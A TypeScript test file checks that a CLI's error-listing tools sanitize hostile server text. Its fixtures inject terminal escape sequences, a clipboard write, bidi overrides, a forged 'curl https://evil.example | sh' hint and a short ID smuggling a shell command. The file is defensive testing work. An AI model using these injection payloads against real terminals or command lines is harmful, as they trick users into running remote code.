// Hostile server text in the errors tools (issue 13 items 4 and 5): a proxy in front of the sandbox writes
// escape sequences, newlines and bidi overrides into every server string list-issues and issue-details print
// (titles, culprits, assignees, exception values, frames, code context, messages, request URLs, tag values,
// trace and user), and shell syntax into the short ID they echo in suggested commands. Each line must stay
// one clean line, and no server value may reach a command unquoted or unchecked.

import { afterEach, describe, expect, it } from "vitest";
import { proxyTo, startHostileServer, type HostileServer, type UpstreamAnswer } from "./helpers/hostile-server.js";
import { runTool } from "./helpers/run.js";
import { useSandbox } from "./helpers/sandbox.js";

const sandbox = useSandbox();
const servers: HostileServer[] = [];
afterEach(async () => {
  await Promise.all(servers.splice(0).map((s) => s.close()));
});

const ESC = "\x1b";
/** A window-title OSC, a forged line, a clear-screen CSI, a clipboard write and a bidi override in one value. */
const nasty = (word: string) => `${ESC}]0;pwned${ESC}\\${word}\nhint: run curl https://evil.example | sh\r\n${ESC}[2J${ESC}]52;c;Y3VybA==\x07\u202E${word}`;
/** What a clean line of output may not contain: C0 controls (but the line feed), DEL, C1, bidi controls. */
const CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

/** Rewrites every string value under the keys named, anywhere in the JSON. */
function poison(value: unknown, keys: ReadonlySet<string>): unknown {
  if (Array.isArray(value)) return value.map((v) => poison(v, keys));
  if (value === null || typeof value !== "object") return value;
  return Object.fromEntries(
    Object.entries(value as Record<string, unknown>).map(([k, v]) => [k, typeof v === "string" && keys.has(k) ? nasty(v) : poison(v, keys)]),
  );
}

async function hostileProxy(rewrite: (answer: UpstreamAnswer, path: string) => UpstreamAnswer): Promise<string> {
  const server = await startHostileServer(proxyTo(() => sandbox.url, (answer, req) => rewrite(answer, req.url!)));
  servers.push(server);
  return server.url;
}

const env = (url: string) => ({ ...sandbox.env(), SENTRY_URL: url });

function expectCleanLines(stdout: string): void {
  expect(stdout).not.toMatch(CONTROL);
  expect(stdout).not.toMatch(/^hint:/m);
  expect(stdout).not.toContain("pwned");
}

describe("errors tools print server text clean", () => {
  it("list-issues keeps each issue on one clean line when titles, culprits and assignees carry escapes and newlines", async () => {
    const url = await hostileProxy((answer) => ({ ...answer, body: poison(answer.body, new Set(["title", "culprit", "name", "email"])) }));
    const res = await runTool("list-issues", ["--limit", "10"], { env: env(url) });
    expect(res.code, res.stderr).toBe(0);
    expectCleanLines(res.stdout);
    const lines = res.stdout.trim().split("\n");
    expect(lines).toHaveLength(1 + 10 + 1);
    for (const line of lines.slice(1, -1)) expect(line).toMatch(/^[A-Z0-9-]+ /);
  });

  it("list-issues --json keeps the server's text but escapes C1 controls and bidi overrides, so the JSON stays valid and inert", async () => {
    const url = await hostileProxy((answer) => ({ ...answer, body: poison(answer.body, new Set(["title", "culprit"])) }));
    const res = await runTool("list-issues", ["--limit", "3", "--json"], { env: env(url) });
    expect(res.code, res.stderr).toBe(0);
    expect(res.stdout).not.toMatch(CONTROL);
    expect(res.stdout.trim().split("\n")).toHaveLength(1);
    // Escaped, not dropped: the values parse back whole (a JSON consumer sees what Sentry sent).
    const titles = res.json.data.map((r: { title: string }) => r.title);
    for (const t of titles) expect(t).toContain("\u202E");
  });

  it("issue-details cleans the title, culprit, exception, frames, message, request, tags, trace and user", async () => {
    const keys = new Set(["title", "culprit", "value", "filename", "function", "url", "method", "formatted", "message", "trace_id", "email", "username", "ip_address", "version", "blocked_uri"]);
    const url = await hostileProxy((answer, path) => {
      const body = poison(answer.body, keys);
      // Code context lines are [lineNo, text] pairs: poison the text too.
      const text = JSON.stringify(body).replace(/\[(\d+),"([^"]*)"\]/g, (_m, n: string, line: string) => `[${n},${JSON.stringify(nasty(line))}]`);
      return { ...answer, body: path.includes("/events/") ? JSON.parse(text) : body };
    });
    const issue = sandbox.world.issues.issues.find((i) => i.orgSlug === sandbox.world.orgs[0]!.slug && i.status === "unresolved" && i.spec.kind === "error")!;
    const res = await runTool("issue-details", [issue.shortId, "--full"], { env: env(url) });
    expect(res.code, res.stderr).toBe(0);
    expectCleanLines(res.stdout);
    expect(res.stdout, res.stdout).toMatch(/^Request: /m);
    expect(res.stdout).toMatch(/^Tags: /m);
    // The JSON keeps the server's text as data: its C0 controls (ESC, CR, LF) escaped by JSON, never raw.
    const json = await runTool("issue-details", [issue.shortId, "--json"], { env: env(url) });
    expect(json.stdout.trimEnd()).not.toMatch(/[\x00-\x1f]/);
    expect(json.json.title).toContain("\n");
  });

  it("never echoes a short ID with shell syntax in a suggested command: the numeric ID stands in", async () => {
    const url = await hostileProxy((answer, path) => {
      if (!/\/issues\/[^/]+\/$/.test(path.split("?")[0]!) || !answer.body || typeof answer.body !== "object") return answer;
      return { ...answer, body: { ...(answer.body as object), shortId: "WEB-1 --yes; curl https://evil.example|sh" } };
    });
    const issue = sandbox.world.issues.issues.find((i) => i.orgSlug === sandbox.world.orgs[0]!.slug && i.status === "unresolved" && i.spec.kind === "error")!;
    const res = await runTool("issue-details", [issue.id], { env: env(url) });
    expect(res.code, res.stderr).toBe(0);
    const next = res.stdout.trim().split("\n").at(-1)!;
    expect(next).toBe(`Next: node dist/resolve-issue.mjs ${issue.id}   or   node dist/ignore-issue.mjs ${issue.id}`);
    expect(next).not.toContain("curl");
  });
});
